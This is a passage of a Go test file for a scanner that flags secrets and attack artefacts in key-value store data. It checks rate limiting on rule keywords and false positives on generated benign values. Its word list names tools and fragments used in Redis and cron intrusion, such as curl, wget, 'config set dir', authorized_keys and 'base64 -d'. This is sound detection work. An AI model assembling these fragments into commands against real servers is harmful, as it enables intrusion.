	if !slices.ContainsFunc(found, func(f *Finding) bool { return f.Secret == url }) || !slices.ContainsFunc(found, func(f *Finding) bool { return f.Category == Artefact }) {
		t.Errorf("found %s, want a connection string and an artefact", brief(found))
	}
}

// TestHostileKeywords: a text that consists of a rule's keyword asks it a bounded
// number of times.
func TestHostileKeywords(t *testing.T) {
	for _, family := range artefactFamilies() {
		for _, r := range family {
			if len(r.keywords) == 0 {
				continue
			}
			text := strings.Repeat(r.keywords[0]+"\n", 4000)
			found, stats := scanAll(t, newTestScanner(t), stringKey("x", text))
			if len(found) > maxAsked || stats.Limited[r.id] == 0 {
				t.Errorf("%s: %d findings, no limit", r.id, len(found))
			}
		}
	}
}

// TestBenignValues: thirty thousand values of what applications keep hold no
// trace of an attack. Their words are those that the rules look at.
func TestBenignValues(t *testing.T) {
	words := strings.Fields(`run the curl wget bash shell script cron crontab schedule job every day root user useradd password install update server redis valkey config set dir dump module load
		database backup restore data encrypted bitcoin wallet send pay ransom miner pool eval exec system socket connect python perl php lua function return http https example test
		* */5 0 1 | && ; -c -i -e /tmp /etc/cron.d /var/log authorized_keys ssh-rsa .ssh echo base64 -d chmod +x`)
	rnd := rand.New(rand.NewPCG(7, 11))
	var events []keyspace.Event
	var text bytes.Buffer
	for i := range 30_000 {
		text.Reset()
		for n := 3 + rnd.IntN(14); n > 0; n-- {
			text.WriteString(words[rnd.IntN(len(words))])
			text.WriteByte(' ')
		}
		value := text.String()
		switch i % 5 {
		case 1:
			value = fmt.Sprintf(`{"cron":"*/%d * * * *","name":%q}`, 1+rnd.IntN(59), value)
		case 2:
			value = "See https://docs.synthetic.test/" + value + "| less"
		case 3:
			value = fmt.Sprintf("%d %d * * * /usr/bin/job --n %d # %s", rnd.IntN(60), rnd.IntN(24), i, "nightly")
		}
		events = append(events, stringKey(fmt.Sprint("doc:", i), value)...)
	}
	found, _ := scanAll(t, newTestScanner(t), events)
	found = slices.DeleteFunc(found, func(f *Finding) bool { return f.Category != Artefact })
	if len(found) > 0 {
		t.Errorf("%d traces of attacks, the first: %s in %q", len(found), found[0].Rule, found[0].Secret)
	}
}
